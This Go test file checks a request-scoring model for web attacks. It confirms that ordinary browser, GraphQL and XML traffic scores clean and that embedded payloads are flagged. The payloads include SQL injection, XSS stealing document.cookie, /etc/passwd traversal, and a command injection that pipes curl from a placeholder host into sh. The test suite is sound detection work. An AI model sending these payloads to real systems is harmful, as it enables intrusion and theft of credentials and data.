package model

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"strings"
	"testing"
)

// chromeHeaders is an ordinary Chrome 131 navigation, as sent to a site
// that asked for the high-entropy client hints.
var chromeHeaders = [][2]string{
	{"host", "shop.example"},
	{"sec-ch-ua", `"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"`},
	{"sec-ch-ua-mobile", "?0"},
	{"sec-ch-ua-platform", `"Windows"`},
	{"sec-ch-ua-bitness", `"64"`},
	{"sec-ch-ua-arch", `"x86"`},
	{"sec-ch-ua-full-version-list", `"Google Chrome";v="131.0.6778.86", "Chromium";v="131.0.6778.86", "Not_A Brand";v="24.0.0.0"`},
	{"sec-ch-ua-platform-version", `"15.0.0"`},
	{"sec-ch-ua-model", `""`},
	{"sec-ch-ua-wow64", "?0"},
	{"upgrade-insecure-requests", "1"},
	{"user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"},
	{"accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"},
	{"sec-fetch-site", "same-origin"}, {"sec-fetch-mode", "navigate"}, {"sec-fetch-user", "?1"}, {"sec-fetch-dest", "document"},
	{"referer", "https://shop.example/products?category=shoes&sort=price"},
	{"accept-encoding", "gzip, deflate, br, zstd"},
	{"accept-language", "en-US,en;q=0.9,de;q=0.8"},
	{"priority", "u=0, i"},
}

// cleanFloor is what "scores clean" means in issue 9.
const cleanFloor = 80

// formatCleanFloor is the bar for the API formats the walkers split (XML,
// GraphQL): above 50 no field of the request is even listed as a
// location, well clear of the threshold.
const formatCleanFloor = 50

func wantFormatClean(t *testing.T, m *Model, req *Request) {
	t.Helper()
	s := m.Score(context.Background(), req)
	if s.Overall <= formatCleanFloor || !s.Complete {
		t.Errorf("scored %d (complete %v), want > %d", s.Overall, s.Complete, formatCleanFloor)
	}
}

// The two requests of issue 9, and real-looking variants of them, must
// score clean with the embedded model.
func TestIssueRequestsScoreClean(t *testing.T) {
	t.Parallel()
	m := mustDefault(t)
	tests := []struct {
		name string
		req  Request
	}{
		{"chrome with sec-ch-ua-bitness", Request{Method: "GET", URI: "/", Headers: chromeHeaders}},
		{"bitness alone", Request{Method: "GET", URI: "/", Headers: [][2]string{{"sec-ch-ua-bitness", `"64"`}}}},
		{"redirect URL", Request{Method: "GET", URI: "/login?redirect=https%3A%2F%2Fshop.example%2Fcart%3Fitem%3D42"}},
		{"redirect URL, chrome", Request{Method: "GET", URI: "/login?redirect=https%3A%2F%2Fshop.example%2Fcart%3Fitem%3D42", Headers: chromeHeaders}},
		{"oauth callback", Request{Method: "GET", URI: "/oauth/authorize?response_type=code&client_id=s6BhdRkqt3&redirect_uri=https%3A%2F%2Fclient.example.com%2Fcb&scope=openid%20profile&state=af0ifjsldkj"}},
		{"analytics beacon", Request{Method: "GET", URI: "/collect?v=2&tid=G-ABC123&cid=555.1700000000&dl=https%3A%2F%2Fshop.example%2Fproducts%3Fid%3D42%26utm_source%3Dnews&dr=https%3A%2F%2Fwww.google.com%2F&dt=Shoes%20%E2%80%93%20Shop"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := m.Score(context.Background(), &tc.req)
			if s.Overall < cleanFloor || !s.Complete {
				t.Fatalf("scored %+v, want overall >= %d and complete", s, cleanFloor)
			}
			for c, v := range s.Class {
				if v < cleanFloor {
					t.Errorf("class %s scored %d", c, v)
				}
			}
		})
	}
}

// Full header sets of Chrome, Firefox, Safari and Edge (desktop and
// mobile) drawn from browserforge's model of real browser fingerprints
// (testdata/browser_headers.json) must score clean, on a page load and on
// an API call.
func TestBrowserHeaderSetsScoreClean(t *testing.T) {
	t.Parallel()
	m := mustDefault(t)
	b, err := os.ReadFile("testdata/browser_headers.json")
	if err != nil {
		t.Fatal(err)
	}
	var sets []struct {
		Browser, Device string
		Headers         [][2]string
	}
	if err := json.Unmarshal(b, &sets); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for i, set := range sets {
		seen[strings.Split(set.Browser, "+")[0]] = true
		for _, uri := range []string{"/", "/api/v1/products?id=42&lang=en"} {
			req := Request{Method: "GET", URI: uri, Headers: append([][2]string{{"host", "shop.example"}}, set.Headers...)}
			t.Run(fmt.Sprintf("%d-%s-%s%s", i, set.Browser, set.Device, uri), func(t *testing.T) {
				t.Parallel()
				s := m.Score(context.Background(), &req)
				if s.Overall < cleanFloor {
					t.Fatalf("scored %+v", s)
				}
			})
		}
	}
	for _, want := range []string{"chrome", "firefox", "safari", "edge"} {
		if !seen[want] {
			t.Errorf("testdata has no %s header set", want)
		}
	}
}

// Padding must not hide a payload from the model: not past the 256th
// argument, not past 4 KiB of a value, not deeper than 16 JSON levels.
// When the padding is over the budget the payload is still scored (the
// riskiest fields are chosen) and the scores say the view was partial.
func TestNoPositionalBlindSpots(t *testing.T) {
	t.Parallel()
	m := mustDefault(t)
	thr := m.Info().DefaultThreshold
	const payload = "1%27+UNION+SELECT+username%2Cpassword+FROM+users--+-"
	var plain, busy strings.Builder
	for i := 0; i < 300; i++ {
		fmt.Fprintf(&plain, "a%d=%d&", i, i)
		fmt.Fprintf(&busy, "p%d=dir%%2Fsub%%2Ffile-%d.txt&", i, i)
	}
	deep := strings.Repeat(`{"a":`, 40) + `"<img src=x onerror=alert(document.cookie)>"` + strings.Repeat("}", 40)
	long := strings.Repeat("lorem ipsum dolor sit amet ", 800) + "<script>alert(document.cookie)</script>" + strings.Repeat(" tail", 200)
	// A payload inside 20 KiB of prose is diluted by it: it is seen (the
	// field is scored in 4 KiB windows) and scores as suspicious, though
	// not always under the blocking threshold; the same prose without it
	// scores clean.
	form := [][2]string{{"content-type", "application/x-www-form-urlencoded"}}
	prose := strings.Repeat("lorem ipsum dolor sit amet ", 800)
	if s := m.Score(context.Background(), &Request{Method: "POST", URI: "/c", Headers: form, Body: []byte("msg=" + strings.ReplaceAll(prose, " ", "+"))}); s.Overall < cleanFloor {
		t.Fatalf("long prose without a payload scored %+v", s)
	}
	tests := []struct {
		name     string
		req      Request
		complete bool
		max      int
	}{
		{"after 300 plain arguments", Request{Method: "GET", URI: "/item?" + plain.String() + "id=" + payload}, true, thr},
		{"after 300 non-trivial arguments", Request{Method: "GET", URI: "/item?" + busy.String() + "id=" + payload}, false, thr},
		{"past 4 KiB of a value", Request{Method: "POST", URI: "/c", Headers: form,
			Body: []byte("msg=" + strings.ReplaceAll(long, " ", "+"))}, true, locationCutoff},
		{"40 levels of JSON", Request{Method: "POST", URI: "/api", Headers: [][2]string{{"content-type", "application/json"}}, Body: []byte(deep)}, true, thr},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := m.Score(context.Background(), &tc.req)
			if s.Overall > tc.max || len(s.Locations) == 0 {
				t.Errorf("payload missed: %+v", s)
			}
			if s.Complete != tc.complete {
				t.Errorf("Complete = %v (%s), want %v", s.Complete, s.Limit, tc.complete)
			}
			if !s.Complete && s.Limit == "" {
				t.Error("an incomplete score must name the limit")
			}
		})
	}
}

// A cancelled context leaves fields unscored, and the scores must say so.
func TestCancelledContextIsIncomplete(t *testing.T) {
	t.Parallel()
	m := mustDefault(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	s := m.Score(ctx, &Request{Method: "GET", URI: "/x?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"})
	if s.Complete || !strings.Contains(s.Limit, "context") {
		t.Fatalf("scores %+v, want incomplete because of the context", s)
	}
}

// A field with none of the shapes attacks are made of is capped at the
// novelty floor, above the default threshold, however unusual it is.
func TestNoveltyAloneCannotFlag(t *testing.T) {
	t.Parallel()
	m := mustDefault(t)
	floor := m.Info().NoveltyFloor
	if floor <= m.Info().DefaultThreshold {
		t.Fatalf("novelty floor %d is not above the default threshold %d", floor, m.Info().DefaultThreshold)
	}
	odd := []string{
		`"64"`, `"x86"`, "~~~~^^^^~~~~", "ÿþý€€€ %FF%FE%00", "||||||||", "{{{{[[[[", "'''''", "<<<<>>>>", "\"\"\"\"\"",
		"AAAA" + strings.Repeat("%41", 300), "=?utf-8?B?SGVsbG8=?=", "@@@@####", "$$$$",
	}
	for _, v := range odd {
		f := Field{Part: PartHeader, Name: "x-odd", Raw: v}
		fv := make([]float64, NumFeatures)
		FieldFeatures(&f, fv)
		if fv[fEvidence] != 0 {
			continue // has an attack shape; not what this test is about
		}
		s := m.Score(context.Background(), &Request{Method: "GET", URI: "/", Headers: [][2]string{{"x-odd", v}}})
		if s.Overall < floor {
			t.Errorf("%q: no attack shape but scored %d (floor %d)", v, s.Overall, floor)
		}
	}
}

// GraphQL documents are scored by their strings and comments (graphql.go):
// ordinary queries, mutations and batches score clean, and a payload in a
// string argument or a comment is still found, in the field it came in.
func TestGraphQLScoresByItsStrings(t *testing.T) {
	t.Parallel()
	m := mustDefault(t)
	post := func(body string) Request {
		return Request{Method: "POST", URI: "/graphql", Headers: [][2]string{{"content-type", "application/json"}, {"user-agent", chromeHeaders[11][1]}}, Body: []byte(body)}
	}
	clean := []struct {
		name string
		req  Request
	}{
		{"query with variables", post(`{"operationName":"GetUser","variables":{"id":"42","first":10},"query":"query GetUser($id: ID!, $first: Int) { user(id: $id) { id name avatarUrl(size: 64) posts(first: $first) { edges { node { id title createdAt } } } } }"}`)},
		{"mutation", post(`{"query":"mutation AddComment($input: AddCommentInput!) {\n  addComment(input: $input) {\n    commentEdge { node { id body author { login } } }\n  }\n}","variables":{"input":{"subjectId":"MDU6SXNzdWUx","body":"Thanks, this fixed it for me!"}}}`)},
		{"batch with fragments and directives", post(`[{"operationName":"A","query":"query A { viewer { id } }"},{"operationName":"B","query":"query B($n: Int = 5) { feed(limit: $n) @include(if: true) { ... on Post { id title } } }"}]`)},
		{"introspection", post(`{"query":"query IntrospectionQuery { __schema { queryType { name } types { ...FullType } } }\nfragment FullType on __Type { kind name fields(includeDeprecated: true) { name args { name type { kind name ofType { kind name } } } } }"}`)},
		{"GET with a search string", Request{Method: "GET", URI: "/graphql?query=%7B%20products(first%3A%2010%2C%20query%3A%20%22title%3Ashirt%20AND%20price%3A%3C50%22)%20%7B%20edges%20%7B%20node%20%7B%20id%20title%20handle%20%7D%20%7D%20%7D%20%7D"}},
	}
	for _, tc := range clean {
		t.Run("clean/"+tc.name, func(t *testing.T) {
			t.Parallel()
			wantFormatClean(t, m, &tc.req)
		})
	}
	attacks := []struct{ name, body string }{
		{"sqli in an argument", `{"query":"{ user(name: \"admin' OR 1=1-- -\") { id } }"}`},
		{"xss in an argument", `{"query":"{ search(q: \"<img src=x onerror=alert(1)>\") { id } }"}`},
		{"traversal in a variable default", `{"query":"query Q($p: String = \"../../../../etc/passwd\") { file(path: $p) { content } }"}`},
		{"rce in a block string", `{"query":"{ ping(host: \"\"\"127.0.0.1; cat /etc/passwd\"\"\") { out } }"}`},
		{"sqli in a comment", `{"query":"{ a } # ' union select password from users--"}`},
	}
	for _, tc := range attacks {
		t.Run("attack/"+tc.name, func(t *testing.T) {
			t.Parallel()
			req := post(tc.body)
			s := m.Score(context.Background(), &req)
			if s.Overall > m.Info().DefaultThreshold {
				t.Errorf("scored %d, want <= %d", s.Overall, m.Info().DefaultThreshold)
			}
			if len(s.Locations) == 0 || s.Locations[0].Field != "query" {
				t.Errorf("locations %+v, want the query field first", s.Locations)
			}
		})
	}
}

// XML bodies are walked by element path (xmlwalk.go): SOAP, SAML, S3 and
// XML-RPC calls score clean, and a payload in a text node, an attribute or
// CDATA is found in its element; XML that carries HTML is scored whole and
// still flags.
func TestXMLScoresByItsText(t *testing.T) {
	t.Parallel()
	m := mustDefault(t)
	post := func(ct, body string) Request {
		return Request{Method: "POST", URI: "/svc", Headers: [][2]string{{"content-type", ct}, {"user-agent", "Apache-HttpClient/4.5.14 (Java/17.0.9)"}}, Body: []byte(body)}
	}
	const soap = `<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetQuote xmlns="http://tempuri.org/"><symbol>%s</symbol></GetQuote></soap:Body></soap:Envelope>`
	clean := []struct {
		name string
		req  Request
	}{
		{"soap", post("text/xml; charset=utf-8", fmt.Sprintf(soap, "MSFT"))},
		{"ws-security soap 1.2", post("application/soap+xml; charset=utf-8", `<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://www.w3.org/2005/08/addressing" xmlns:u="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"><s:Header><a:Action s:mustUnderstand="1">http://tempuri.org/IOrderService/PlaceOrder</a:Action><a:MessageID>urn:uuid:7b3c2f1e-8a4d-4e6b-9c1f-2d5e8f7a6b3c</a:MessageID><o:Security s:mustUnderstand="1" xmlns:o="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"><u:Timestamp u:Id="_0"><u:Created>2026-11-30T10:15:00.000Z</u:Created></u:Timestamp><o:UsernameToken><o:Username>svc-orders</o:Username><o:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordText">S3cr3t!Pass</o:Password></o:UsernameToken></o:Security></s:Header><s:Body><PlaceOrder xmlns="http://tempuri.org/"><order xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><CustomerId>10442</CustomerId><Notes i:nil="true"/></order></PlaceOrder></s:Body></s:Envelope>`)},
		{"saml authn request", post("application/xml", `<?xml version="1.0" encoding="UTF-8"?><samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="ONELOGIN_809707f0030a5d00620c9d9df97f627afe9dcc24" Version="2.0" IssueInstant="2014-07-16T23:52:45Z" Destination="http://idp.example.com/SSOService.php" ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" AssertionConsumerServiceURL="http://sp.example.com/demo1/index.php?acs"><saml:Issuer>http://sp.example.com/demo1/metadata.php</saml:Issuer><samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" AllowCreate="true"/></samlp:AuthnRequest>`)},
		{"s3 create bucket", post("application/xml", `<?xml version="1.0" encoding="UTF-8"?><CreateBucketConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><LocationConstraint>eu-west-1</LocationConstraint></CreateBucketConfiguration>`)},
		{"order with entities", post("application/xml", `<?xml version="1.0"?><order><customer name="Zoë O&apos;Neill" email="zoe@example.ie"/><note>Please deliver after 5pm &amp; ring twice</note><item sku="X-1" qty="3">Garden chair</item></order>`)},
		{"saml post binding", Request{Method: "POST", URI: "/saml/acs", Headers: [][2]string{{"content-type", "application/x-www-form-urlencoded"}},
			Body: []byte("SAMLResponse=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(`<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" Version="2.0" IssueInstant="2014-07-17T01:01:48Z" Destination="http://sp.example.com/demo1/index.php?acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">http://idp.example.com/metadata.php</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>`))) + "&RelayState=https%3A%2F%2Fapp.example.com%2F")}},
		{"sharepoint fedauth cookie", Request{Method: "GET", URI: "/sites/team/", Headers: [][2]string{{"cookie", "FedAuth=" + base64.StdEncoding.EncodeToString([]byte("\ufeff<?xml version=\"1.0\" encoding=\"utf-8\"?><SP>V13,0h.f|membership|s-1-5-21-2127521184-1604012920-1887927527-1234,133456789012345678,False,k2b7YvEo3nVq9m0d,https://sp.example.com/sites/team/</SP>"))}}}},
		{"xml-rpc", post("text/xml", `<?xml version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>admin</string></value></param><param><value><string>hunter2</string></value></param></params></methodCall>`)},
	}
	for _, tc := range clean {
		t.Run("clean/"+tc.name, func(t *testing.T) {
			t.Parallel()
			wantFormatClean(t, m, &tc.req)
		})
	}
	attacks := []struct {
		name, ct, body, field string
	}{
		{"sqli in a text node", "text/xml", fmt.Sprintf(soap, "1 UNION SELECT username, password FROM users--"), "Envelope.Body.GetQuote.symbol"},
		{"escaped xss in a text node", "text/xml", fmt.Sprintf(soap, "&lt;script&gt;alert(1)&lt;/script&gt;"), "Envelope.Body.GetQuote.symbol"},
		{"xss in CDATA", "text/xml", fmt.Sprintf(soap, "<![CDATA[<script>alert(1)</script>]]>"), "Envelope.Body.GetQuote.symbol"},
		{"traversal in an attribute", "application/xml", `<?xml version="1.0"?><doc><file path="../../../../etc/passwd"/></doc>`, "doc.file@path"},
		{"rce in a text node", "text/xml", fmt.Sprintf(soap, "$(curl http://x.example/s|sh)"), "Envelope.Body.GetQuote.symbol"},
		{"script element: scored whole", "text/xml", fmt.Sprintf(soap, "<script>alert(1)</script>"), ""},
		{"event handler: scored whole", "application/xml", `<r><x onmouseover="alert(1)">y</x></r>`, ""},
	}
	for _, tc := range attacks {
		t.Run("attack/"+tc.name, func(t *testing.T) {
			t.Parallel()
			req := post(tc.ct, tc.body)
			s := m.Score(context.Background(), &req)
			if s.Overall > m.Info().DefaultThreshold {
				t.Errorf("scored %d, want <= %d", s.Overall, m.Info().DefaultThreshold)
			}
			if len(s.Locations) == 0 || s.Locations[0].Field != tc.field {
				t.Errorf("locations %+v, want %q first", s.Locations, tc.field)
			}
		})
	}
}
